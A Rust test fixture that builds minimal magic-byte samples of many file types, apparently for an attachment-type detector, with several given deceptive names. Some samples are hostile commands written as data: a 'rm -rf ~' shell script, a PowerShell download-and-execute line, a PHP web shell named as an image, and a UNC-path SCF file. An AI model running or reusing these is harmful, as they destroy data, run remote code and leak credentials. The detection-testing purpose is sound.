//! The smallest file of each kind that shows what it is.

/// Expected kinds, bytes, names.
pub(super) type Case = (&'static [&'static str], Vec<u8>, &'static [&'static str]);

pub(super) fn put(mut bytes: Vec<u8>, at: usize, what: &[u8]) -> Vec<u8> {
    if bytes.len() < at + what.len() {
        bytes.resize(at + what.len(), 0);
    }
    bytes[at..at + what.len()].copy_from_slice(what);
    bytes
}

pub(super) fn dos(new: &[u8]) -> Vec<u8> {
    // Last page 0x90, 3 pages, header of 4 paragraphs, new header at 0x80.
    let header = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0";
    put(
        put(put(header.to_vec(), 0x3c, &[0x80, 0, 0, 0]), 0x80, new),
        1000,
        &[0],
    )
}

/// A ZIP with these members (name, content, flags), stored.
pub(super) fn zip(members: &[(&str, &[u8], u16)]) -> Vec<u8> {
    let (mut file, mut directory) = (Vec::new(), Vec::new());
    for (name, content, flags) in members {
        let at = file.len() as u32;
        let size = (content.len() as u32).to_le_bytes();
        let mut common = vec![20, 0];
        common.extend(flags.to_le_bytes());
        common.extend([0; 6]); // method, time, date
        common.extend([0; 4]); // CRC: nobody asks
        common.extend(size);
        common.extend(size);
        common.extend((name.len() as u16).to_le_bytes());
        common.extend([0, 0]);
        file.extend(b"PK\x03\x04");
        file.extend(&common);
        file.extend(name.as_bytes());
        file.extend(*content);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&common);
        directory.extend([0; 10]);
        directory.extend(at.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let start = file.len() as u32;
    let count = (members.len() as u16).to_le_bytes();
    file.extend(&directory);
    file.extend(b"PK\x05\x06\0\0\0\0");
    file.extend(count);
    file.extend(count);
    file.extend((directory.len() as u32).to_le_bytes());
    file.extend(start.to_le_bytes());
    file.extend([0, 0]);
    file
}

pub(super) fn zip_of(names: &[&str]) -> Vec<u8> {
    zip(&names
        .iter()
        .map(|name| (*name, &b"x"[..], 0))
        .collect::<Vec<_>>())
}

/// An OLE compound file: header, and one directory sector with a root of this class and one stream.
pub(super) fn ole(class: &[u8], stream: &str) -> Vec<u8> {
    let name = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let mut file = put(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec(), 30, &[9, 0]);
    file = put(file, 48, &[1, 0, 0, 0]); // the directory's first sector: at 1024
    file = put(file, 1024, &name("Root Entry"));
    file = put(file, 1024 + 80, class);
    file = put(file, 1024 + 128, &name(stream));
    put(file, 1535, &[0])
}

pub(super) fn utf16(text: &str) -> Vec<u8> {
    [0xfeff]
        .into_iter()
        .chain(text.encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect()
}

fn tar(magic: &[u8]) -> Vec<u8> {
    let header = put(b"bao-cao.exe".to_vec(), 511, &[0]);
    let header = put(put(header, 257, magic), 148, b"        ");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    put(header, 148, format!("{sum:06o}\0 ").as_bytes())
}

pub(super) fn samples() -> Vec<Case> {
    let office = |class: u32| [&class.to_le_bytes()[..], b"\0\0\0\0\xc0\0\0\0\0\0\0\x46"].concat();
    let at = |offset: usize, bytes: &[u8]| put(vec![0; offset], offset, bytes);
    vec![
        // Programs.
        (&["pe"], dos(b"PE\0\0\x4c\x01"), &[]),
        (&["dos-ne"], dos(b"NE\x05\x0a"), &[]),
        (&["dos-le"], dos(b"LE\0\0"), &[]),
        (&["dos-mz"], dos(b"\0\0\0\0"), &["thuc-don.dat"]),
        (&["dos-mz"], b"MZ\x90\0\x03".to_vec(), &[]),
        (&["elf"], b"\x7fELF\x02\x01\x01\0".to_vec(), &[]),
        (&["mach-o"], b"\xcf\xfa\xed\xfe\x07\0\0\x01".to_vec(), &[]),
        (&["mach-o"], b"\xfe\xed\xfa\xce\0\0\0\x12".to_vec(), &[]),
        (&["mach-o"], b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07".to_vec(), &[]),
        (&["java-class"], b"\xca\xfe\xba\xbe\0\0\0\x34\0\x1d".to_vec(), &[]),
        (&["java-class"], b"\xca\xfe\xba\xbe\0\x03\0\x2d\0\x1d".to_vec(), &[]),
        (&["dex"], b"dex\n035\0abcd".to_vec(), &[]),
        (&["wasm"], b"\0asm\x01\0\0\0".to_vec(), &[]),
        (&["wasm"], b"\0asm\x0d\0\x01\0".to_vec(), &[]),
        (&["lnk"], b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b\0".to_vec(), &["a.pdf"]),
        (&["chm"], b"ITSF\x03\0\0\0\x60\0\0\0".to_vec(), &[]),
        (&["hlp"], b"\x3f\x5f\x03\0\x10\0\0\0".to_vec(), &[]),
        (&["applescript"], b"FasdUAS 1.101.10\x0e\0".to_vec(), &[]),
        (&["rpm"], b"\xed\xab\xee\xdb\x03\0".to_vec(), &[]),
        (&["deb", "ar"], b"!<arch>\ndebian-binary   1410122664  0 0 100644 4 `\n2.0\n\0".to_vec(), &[]),
        (&["jar"], zip_of(&["META-INF/", "META-INF/MANIFEST.MF", "A.class"]), &[]),
        (&["jar"], zip_of(&["A.class"]), &["tool.JAR"]),
        (&["apk"], zip_of(&["META-INF/MANIFEST.MF", "AndroidManifest.xml", "classes.dex"]), &[]),
        (&["msix"], zip_of(&["a.exe", "AppxManifest.xml", "[Content_Types].xml"]), &[]),
        (&["ipa"], zip_of(&["Payload/", "Payload/A.app/Info.plist"]), &[]),
        (&["msi"], ole(&office(0x000c_1084), "x"), &[]),
        (&["msi"], ole(&office(0x000c_1086), "x"), &[]),
        // Scripts, shortcuts and what Windows acts on.
        (&["script-sh"], b"#!/bin/sh\nrm -rf ~\n".to_vec(), &["cai-dat"]),
        (&["script-sh"], b"#!/usr/bin/env -S bash -e\n".to_vec(), &[]),
        (&["script-python"], b"#!/usr/bin/env python3\nimport os\n".to_vec(), &["a"]),
        (&["script-perl"], b"#! /usr/bin/perl -w\nuse strict;\n".to_vec(), &["a.bin"]),
        (&["script-other"], b"#!/usr/bin/ruby\nputs 1\n".to_vec(), &["a.dat"]),
        (&["script-bat"], b"@echo off\r\nstart a.exe\r\n".to_vec(), &["a.doc"]),
        (&["script-bat"], b"set x=1\r\necho off\r\ncd %~dp0\r\n".to_vec(), &["a.doc"]),
        (
            &["script-vbs"],
            b"Dim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\nOn Error Resume Next\r\na.Run \"calc\"".to_vec(),
            &["hoa-don.pdf"],
        ),
        (
            &["script-js"],
            b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');".to_vec(),
            &["hoa-don.pdf"],
        ),
        (
            &["script-ps1"],
            utf16("$c = New-Object Net.WebClient\r\nIEX($c.DownloadString('http://x/a'))"),
            &["hoa-don.pdf"],
        ),
        (&["script-encoded"], b"#@~^XAAAAA==jY~W8L".to_vec(), &["a.doc"]),
        (&["script-wsf"], b"<?xml version='1.0'?><job><script language='VBScript'>x".to_vec(), &[]),
        (&["script-wsf"], b"<?XML version=\"1.0\"?><scriptlet><script language=\"JScript\">".to_vec(), &[]),
        (&["hta"], b"<html><head><HTA:APPLICATION id='a'></head>".to_vec(), &["a.html"]),
        (&["reg"], b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]".to_vec(), &[]),
        (&["reg"], utf16("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]"), &[]),
        (&["reg"], b"REGEDIT4\r\n".to_vec(), &[]),
        (&["scf"], b"[Shell]\r\nCommand=2\r\nIconFile=\\\\1.2.3.4\\a\r\n".to_vec(), &[]),
        (&["inf"], b";x\r\n[AutoRun]\r\nopen=a.exe\r\n".to_vec(), &[]),
        (&["inf"], b"[Version]\r\nSignature = \"$Windows NT$\"\r\n".to_vec(), &[]),
        (&["desktop-entry"], b"[Desktop Entry]\nType=Application\nExec=sh -c id\n".to_vec(), &[]),
        (&["url-shortcut"], b"[InternetShortcut]\r\nURL=https://daknong.gov.vn\r\n".to_vec(), &[]),
        (
            &["settingcontent"],
            b"<?xml version='1.0'?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd".to_vec(),
            &[],
        ),
        (&["library-ms"], b"<?xml version='1.0'?><libraryDescription xmlns='x'>".to_vec(), &[]),
        (
            &["clickonce"],
            b"<?xml?><asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1'><deployment install='true'>".to_vec(),
            &[],
        ),
        (&["msc"], b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'>".to_vec(), &[]),
        (&["jnlp"], b"<?xml version='1.0'?><jnlp spec='1.0+'>".to_vec(), &[]),
        (
            &["appinstaller"],
            b"<?xml version='1.0'?><AppInstaller xmlns='http://schemas.microsoft.com/appx/appinstaller/2018'>".to_vec(),
            &[],
        ),
        (&["library-ms"], b"<?xml?><persistedQuery version='1.0'><query><scope><include path='x'>".to_vec(), &[]),
        (&["url-launcher"], b"[InternetShortcut]\r\nURL=file://203.0.113.9/a/b.lnk\r\n".to_vec(), &["a.url"]),
        (&["script-other"], b"<?php system($_GET['a']);".to_vec(), &["anh.jpg"]),
        (&["script-python"], b"import os\nif __name__ == '__main__':\n  os.system('id')\n".to_vec(), &["a.dat"]),
        (&["script-perl"], b"package A;\nuse strict;\nuse warnings;\nmy $a = 1;\n".to_vec(), &["a.dat"]),
        (&["script-other"], b"#NoTrayIcon\n#RequireAdmin\nShellExecuteWait('a')\n".to_vec(), &["a.dat"]),
        // Compiled scripts.
        (&["bytecode"], b"\xcb\x0d\r\n\0\0\0\0\x11\x22\x33\x44\x10\0\0\0\xe3\0\0\0".to_vec(), &["a.dat"]),
        (&["bytecode"], b"\x03\xf3\r\n\x11\x22\x33\x44c\0\0\0\0".to_vec(), &["a.dat"]),
        (&["bytecode"], b"\x1bLua\x53\0\x19\x93".to_vec(), &["a.dat"]),
        (&["bytecode"], b"\xa3\x48\x4b\xbe\x98\x6c\x4a\xa9\x99\x4c".to_vec(), &["a.dat"]),
        (&["gadget"], zip_of(&["gadget.xml", "a.html"]), &[]),
        // Archives.
        (&["zip"], zip_of(&["bao-cao.exe"]), &[]),
        (&["zip"], b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(), &[]),
        (&["rar"], b"Rar!\x1a\x07\0\xcf".to_vec(), &[]),
        (&["rar"], b"Rar!\x1a\x07\x01\0".to_vec(), &[]),
        (&["7z"], b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), &[]),
        (&["gz"], b"\x1f\x8b\x08\0\0\0\0\0".to_vec(), &[]),
        (&["bz2"], b"BZh91AY&SY\0\x01".to_vec(), &[]),
        (&["xz"], b"\xfd7zXZ\0\0\x04".to_vec(), &[]),
        (&["lzma"], b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0".to_vec(), &[]),
        (&["lzip"], b"LZIP\x01\x0c\0".to_vec(), &[]),
        (&["zst"], b"\x28\xb5\x2f\xfd\x04\0".to_vec(), &[]),
        (&["zst"], b"\x5a\x2a\x4d\x18\0\0\0\0".to_vec(), &[]),
        (&["lz4"], b"\x04\x22\x4d\x18\x64\0".to_vec(), &[]),
        (&["z"], b"\x1f\x9d\x90\0".to_vec(), &[]),
        (&["szdd"], b"SZDD\x88\xf0\x27\x33A\0".to_vec(), &[]),
        (&["tar"], tar(b"ustar\x0000"), &[]),
        (&["tar"], tar(b""), &[]),
        (&["cab"], b"MSCF\0\0\0\0\x2c\0".to_vec(), &[]),
        (&["arj"], b"\x60\xea\x2a\0\x1e\x0b\x01\0\x10\0\x02\0".to_vec(), &[]),
        (&["lha"], b"\x22\0-lh5-\0\0".to_vec(), &[]),
        (&["lha"], b"\x22\0-lhd-\0\0".to_vec(), &[]),
        (&["ace"], b"\0\0\x31\0\0\0\x90**ACE**\x14".to_vec(), &[]),
        (
            &["arc"],
            b"\x1a\x02A.TXT\0\0\0\0\0\0\0\0\x03\0\0\0\0\0\0\0\0\0\x03\0\0\0abc\x1a\0"
                .to_vec(),
            &[],
        ),
        (&["zoo"], at(20, b"\xdc\xa7\xc4\xfd\x22"), &[]),
        (&["cpio"], [&b"070701"[..], &[b'0'; 104], b"a.exe\0"].concat(), &[]),
        (&["cpio"], put(b"\xc7\x71".to_vec(), 20, &[6, 0, 0, 0]), &[]),
        (&["ar"], b"!<arch>\na.o/            0           0     0     644     4         `\n\0".to_vec(), &[]),
        (&["xar"], b"xar!\0\x1c\0\x01".to_vec(), &[]),
        (&["wim"], b"MSWIM\0\0\0\xd0\0".to_vec(), &[]),
        (&["uuencode"], b"begin 644 a.exe\r\nM35J0``,````$\r\n".to_vec(), &[]),
        (&["yenc"], b"=ybegin line=128 size=5 name=a.exe\r\n\x80\r\n".to_vec(), &[]),
        (&["binhex"], b"(This file must be converted with BinHex 4.0)\r\n\r\n:$f".to_vec(), &[]),
        // Images of disks.
        (&["iso"], put(at(32_769, b"CD001\x01"), 36_000, &[0]), &[]),
        (&["iso"], put(at(32_769, b"BEA01\x01"), 36_000, &[0]), &[]),
        (&["vhd"], put(b"conectix\0\0\0\x02".to_vec(), 2000, &[0]), &[]),
        (&["vhd"], put(at(4096, b"conectix\0\0\0\x02"), 4607, &[0]), &[]),
        (&["vhdx"], b"vhdxfileM\0".to_vec(), &[]),
        (&["vmdk"], b"KDMV\x01\0\0\0".to_vec(), &[]),
        (&["qcow2"], b"QFI\xfb\0\0\0\x03".to_vec(), &[]),
        (&["dmg"], put(at(4096, b"koly\0\0\0\x04\0\0\x02\0"), 4607, &[0]), &[]),
        (&["hfs"], at(1024, b"H+\0\x04"), &[]),
        (&["fat"], put(put(b"\xeb\x3c\x90".to_vec(), 54, b"FAT12   "), 510, b"\x55\xaa"), &[]),
        (&["fat"], put(put(at(446, b"\x80\x01\x01\0\x07"), 458, &[1, 0, 0, 0]), 510, b"\x55\xaa"), &[]),
        // Documents.
        (&["pdf"], b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec(), &[]),
        (&["pdf"], b"\0junk\n%PDF-1.4\n".to_vec(), &[]),
        (&["docx"], zip_of(&["[Content_Types].xml", "_rels/.rels", "word/document.xml"]), &[]),
        (&["docx"], zip_of(&["_rels/.rels", "docProps/app.xml", "word/document.xml"]), &[]),
        (&["docm"], zip_of(&["[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"]), &[]),
        (&["xlsx"], zip_of(&["[Content_Types].xml", "xl/workbook.xml"]), &[]),
        (&["xlsm"], zip_of(&["[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"]), &[]),
        (&["xlsb"], zip_of(&["[Content_Types].xml", "xl/workbook.bin"]), &[]),
        (&["pptx"], zip_of(&["[Content_Types].xml", "ppt/presentation.xml"]), &[]),
        (&["pptm"], zip_of(&["[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin"]), &[]),
        (&["ooxml"], zip_of(&["[Content_Types].xml", "visio/document.xml"]), &[]),
        (&["xps"], zip_of(&["[Content_Types].xml", "_rels/.rels", "FixedDocSeq.fdseq"]), &[]),
        (&["zip"], zip_of(&["[Content_Types].xml", "_rels/.rels", "a.nuspec", "lib/a.dll"]), &[]),
        (&["odf"], zip_of(&["META-INF/manifest.xml", "content.xml"]), &[]),
        (&["jar"], zip_of(&["vn/A.class"]), &[]),
        (&["docm"], zip_of(&["[Content_Types].xml", "Word\\document.xml", "Word\\VBAPROJECT.BIN"]), &[]),
        (&["odf"], zip(&[("mimetype", b"application/vnd.oasis.opendocument.text", 0), ("content.xml", b"", 0)]), &[]),
        (&["epub"], zip(&[("mimetype", b"application/epub+zip", 0), ("META-INF/container.xml", b"", 0)]), &[]),
        // Without the first member that names the type, as a plain packer writes them.
        (&["odf"], zip_of(&["META-INF/manifest.xml", "content.xml"]), &[]),
        (&["epub"], zip_of(&["META-INF/container.xml", "_static/a.css", "content.opf"]), &[]),
        (&["xps"], zip_of(&["[Content_Types].xml", "_rels/.rels", "FixedDocSeq.fdseq"]), &[]),
        (&["xlsm"], zip_of(&["[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"]), &["cong-cu.xlam"]),
        (&["pptm"], zip_of(&["[Content_Types].xml", "ppt/presentation.xml", "ppt/vbaProject.bin"]), &["a.ppam"]),
        (&["doc"], ole(&office(0x0002_0906), "x"), &[]),
        (&["doc"], ole(&[0; 16], "WordDocument"), &[]),
        (&["xls"], ole(&office(0x0002_0820), "x"), &[]),
        (&["ppt"], ole(b"\x10\x8d\x81\x64\x9b\x4f\xcf\x11\x86\xea\0\xaa\0\xb9\x29\xe8", "x"), &[]),
        (&["xls"], ole(&[0; 16], "x"), &["bang.xls"]),
        (&["ole"], ole(&[0; 16], "x"), &["bang.dat"]),
        (&["ole-encrypted"], ole(&[0; 16], "EncryptedPackage"), &["a.docx"]),
        (&["rtf"], b"{\\rtf1\\ansi Ch\\'e0o}".to_vec(), &[]),
        (&["html"], b"\r\n<!DOCTYPE html>\r\n<html><body>x".to_vec(), &[]),
        (&["html"], b"<p>Ch\xc3\xa0o</p>".to_vec(), &[]),
        (&["xml"], b"\xef\xbb\xbf<?xml version=\"1.0\"?><HDon>".to_vec(), &["hoa-don.xml"]),
        (&["svg"], b"<?xml version=\"1.0\"?>\n<svg xmlns=\"x\">".to_vec(), &[]),
        (&["svg"], b"<svg width=\"1\">".to_vec(), &[]),
        (
            &["onenote"],
            b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3\0".to_vec(),
            &[],
        ),
        (&["postscript"], b"%!PS-Adobe-3.0\n".to_vec(), &[]),
        (&["djvu"], b"AT&TFORM\0\0".to_vec(), &[]),
        (&["dwg"], b"AC1032\0\0\0\0\0\0".to_vec(), &[]),
        // Pictures, sound, film.
        (&["jpeg"], b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(), &[]),
        (&["png"], b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), &[]),
        (&["gif"], b"GIF89a\x01\0\x01\0".to_vec(), &[]),
        (&["webp"], b"RIFF\0\0\0\0WEBPVP8 ".to_vec(), &[]),
        (&["tiff"], b"II*\0\x08\0\0\0\0\0\0\0".to_vec(), &[]),
        (&["bmp"], b"BM\x36\0\0\0\0\0\0\0".to_vec(), &[]),
        (&["ico"], b"\0\0\x01\0\x01\0".to_vec(), &[]),
        (&["psd"], b"8BPS\0\x01".to_vec(), &[]),
        (&["wmf"], b"\xd7\xcd\xc6\x9a\0\0".to_vec(), &[]),
        (&["wmf"], at(40, b" EMF\0"), &[]),
        (&["audio"], b"ID3\x03\0\0\0\0".to_vec(), &[]),
        (&["audio"], b"RIFF\0\0\0\0WAVEfmt ".to_vec(), &[]),
        (&["video"], b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec(), &[]),
        (&["swf"], b"FWS\x06\0\0\0\0".to_vec(), &[]),
        // Messages and the rest.
        (&["eml"], b"Return-Path: <a@b>\r\nReceived: from x\r\n by y\r\nSubject: z\r\n".to_vec(), &[]),
        (&["mbox"], b"From a@b.vn Fri Oct 02 08:00:00 2026\nSubject: x\n".to_vec(), &[]),
        (&["msg"], ole(&office(0x0002_0d0b), "x"), &[]),
        (&["tnef"], b"\x78\x9f\x3e\x22\x01\0".to_vec(), &[]),
        (&["p7m"], b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0".to_vec(), &["smime.p7m"]),
        (&["p7m"], b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0".to_vec(), &["smime.p7m"]),
        (&["p7s"], b"\x30\x82\x04\0\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0".to_vec(), &["a.p7s"]),
        (&["pgp"], b"-----BEGIN PGP MESSAGE-----\r\n".to_vec(), &[]),
        (&["pgp-signature"], b"-----BEGIN PGP SIGNATURE-----\r\n".to_vec(), &[]),
        (&["ics"], b"BEGIN:VCALENDAR\r\nVERSION:2.0".to_vec(), &[]),
        (&["vcard"], b"BEGIN:VCARD\r\nFN:x".to_vec(), &[]),
        (&["font"], b"\0\x01\0\0\0\x12".to_vec(), &[]),
        (&["sqlite"], b"SQLite format 3\0\x10".to_vec(), &[]),
        (&["access"], b"\0\x01\0\0Standard Jet DB\0".to_vec(), &["ns.mdb"]),
        (&["pst"], b"!BDN\0\0".to_vec(), &[]),
        (&["text"], "Kính gửi Sở Thông tin và Truyền thông".as_bytes().to_vec(), &[]),
        (&["text"], utf16("Kính gửi Sở Thông tin và Truyền thông"), &[]),
        (&["text"], b"K\xddnh g\xf6i S\xeb Th\xabng tin".to_vec(), &[]), // TCVN3
        // Nothing that anybody knows.
        (&[], b"\x01\x02\x03\x04\x05\x06".to_vec(), &["a.dat"]),
        (&[], Vec::new(), &["a.exe"]),
    ]
}
